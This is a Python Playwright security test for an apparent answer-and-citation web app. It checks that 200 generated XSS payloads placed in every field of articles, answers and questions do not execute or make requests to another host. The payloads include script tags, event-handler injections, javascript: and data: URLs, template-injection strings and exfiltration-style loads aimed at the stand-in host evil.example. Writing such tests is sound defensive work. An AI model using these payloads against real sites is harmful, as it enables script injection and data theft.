"""Articles and questions that try to run code, to leave the page, or to send something away."""

from __future__ import annotations

import json
from itertools import islice, product
from typing import Any

from playwright.sync_api import Page, expect

from tests.web.stage import AT, Stage, answer, article, citation, claim, events_of

NUMBER = 200
PER_ANSWER = 20
HOST = "https://evil.example"
FIRE = "window.fired=1"

PATTERNS = [
    "<script>{code}</script>",
    "<script src={host}/x.js></script>",
    "<img src=x onerror={code}>",
    "<img src={host}/pixel.gif>",
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><use href={host}/x.svg#a></use></svg>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    "<iframe src=javascript:parent.{code}></iframe>",
    "<object data={host}/x></object>",
    "<embed src={host}/x>",
    "<link rel=stylesheet href={host}/x.css>",
    "<style>@import '{host}/x.css'; body{{background:url({host}/b)}}</style>",
    "<meta http-equiv=refresh content='0;url={host}'>",
    "<base href={host}/>",
    "<form action={host}><input name=q autofocus onfocus={code}></form>",
    "<details open ontoggle={code}>",
    "<video><source onerror={code}></video>",
    "<a href=javascript:{code} autofocus onfocus={code}>x</a>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={code}></style></mglyph></math>",
    "<template><img src=x onerror={code}></template>",
    "<body onload={code}>",
    "![x]({host}/pixel.gif)",
    "[x](javascript:{code})",
    "{{{{constructor.constructor('{code}')()}}}}",
    "${{{code}}}",
    "javascript:{code}",
    "data:text/html,<script>{code}</script>",
    "{host}/?q=stolen",
    "//evil.example/x",
    "\u202e<script>{code}</script>\u202c",
    "<scr\u0000ipt>{code}</scr\u0000ipt>",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "<!--><img src=x onerror={code}>-->",
]
WRAPPINGS = ["{}", '">{}', "'>{}", "</p></div>{}", "</textarea></title></script>{}", "]]>{}<![CDATA["]
PAYLOADS = [
    wrapping.format(pattern.format(code=FIRE, host=HOST))
    for wrapping, pattern in islice(product(WRAPPINGS, PATTERNS), NUMBER)
]
NEVER = "script:not([src^='/web/']), iframe, object, embed, form[action], base, meta[http-equiv], video, template, math"
HARM = f"""() => {{
    const all = [...document.querySelectorAll("*")];
    const addresses = all.map((one) => one.getAttribute("href") ?? one.getAttribute("src")).filter(Boolean);
    const ours = /^(#|\\/|http:\\/\\/127\\.0\\.0\\.1:\\d+\\/#)/;
    return {{
        fired: window.fired ?? null,
        elements: document.querySelectorAll("{NEVER}").length,
        handlers: all.filter((one) => [...one.attributes].some(({{ name }}) => name.startsWith("on"))).length,
        links: addresses.filter((address) => !ours.test(address) && !address.startsWith("{HOST}")),
        pictures: document.images.length,
    }};
}}"""
STEP_THROUGH = """async () => {
    const seen = [], end = Date.now() + 20000, one = (name) => document.querySelector("#panel " + name);
    for (;;) {
        while (!one(".article-text")) {
            if (Date.now() > end) return seen;
            await new Promise((resolve) => setTimeout(resolve, 2));
        }
        seen.push([one("h2").textContent, one("mark").textContent, one(".article-text").textContent]);
        const next = one("[aria-label='Next passage']");
        if (next.disabled) return seen;
        next.click();
    }
}"""
HARMLESS = {"fired": None, "elements": 0, "handlers": 0, "links": [], "pictures": 1}
"""The one picture is our own mark. A link to a foreign host may stand there; nothing may follow it."""


def hostile_article(number: int, text: str) -> dict[str, Any]:
    """An article all of whose fields try it."""
    return article(id=f"a{number}", title=text, source=text, author=text, url=text, tags=[text], text=f"{text}\n{text}")


def hostile_answer(number: int, texts: list[str]) -> dict[str, Any]:
    """An answer all of whose fields try it, with one citation, sentence and party for each text."""
    speaker = {"name": texts[0], "kind": "person", "description": texts[1], "relayed_by": texts[2]}
    citations = [
        citation(
            id=f"cit_{at}",
            number=at + 1,
            article_id=f"a{number * PER_ANSWER + at}",
            title=text,
            source=text,
            author=text,
            url=text,
            quote=text,
            start=0,
            end=len(text),
            evidence=text,
            speaker=speaker | {"name": text},
        )
        for at, text in enumerate(texts)
    ]
    ids = [one["id"] for one in citations]
    parties = [{"name": text, "stance": "denies", "citations": ids[:1], "as_of": AT} for text in texts]
    return answer(
        id=texts[0],
        conversation_id=f"con_{number}",
        question=texts[0],
        standalone_question=texts[1],
        answer="\n".join(texts),
        verdict={"actor": texts[0], "act": "confirm", "result": texts[1]},
        statements=[
            {"text": f"{text}: “{text}”", "claim": "clm_1", "citations": [id_]}
            for text, id_ in zip(texts, ids, strict=True)
        ],
        claims=[claim(text=texts[0], basis=texts, parties=parties, citations=ids)],
        citations=citations,
        engine={"name": texts[0], "model": texts[1], "fallback": texts[2]},
    )


def test_two_hundred_different_payloads_are_tried():
    """The list is as long as it says and repeats nothing."""
    assert len(set(PAYLOADS)) == NUMBER


def test_no_payload_runs_and_nothing_leaves_the_page(page: Page, stage: Stage, staged: str):
    """In questions, answers, passages and articles: 0 scripts; and 0 requests to another host, as for every page."""
    for number, text in enumerate(PAYLOADS):
        stage.articles[f"a{number}"] = hostile_article(number, text)
    batches = [PAYLOADS[at : at + PER_ANSWER] for at in range(0, NUMBER, PER_ANSWER)]
    page.goto(staged)
    for number, texts in enumerate(batches):
        stage.streams(*events_of(hostile_answer(number, texts)))
        page.get_by_label("Your question").fill(" ".join(texts)[:2000])
        page.get_by_role("button", name="Ask", exact=True).click()
        expect(page.locator(".feedback")).to_have_count(number + 1)
    harm = [page.evaluate(HARM)]
    shown = page.locator(".source-title").all_text_contents()
    opened: list[list[str]] = []
    for turn in range(len(batches)):
        page.get_by_role("article").nth(turn).locator(".source .link").first.click()
        opened += page.evaluate(STEP_THROUGH)
        harm.append(page.evaluate(HARM))
    page.goto(f"{staged}/#/library")
    expect(page.get_by_role("row")).to_have_count(NUMBER + 1)
    harm.append(page.evaluate(HARM))
    assert harm == [HARMLESS] * len(harm)
    assert shown == PAYLOADS
    assert opened == [[text, text, f"{text}\n{text}"] for text in PAYLOADS]
    assert json.dumps(page.evaluate("Object.keys(sessionStorage)")) == "[]"
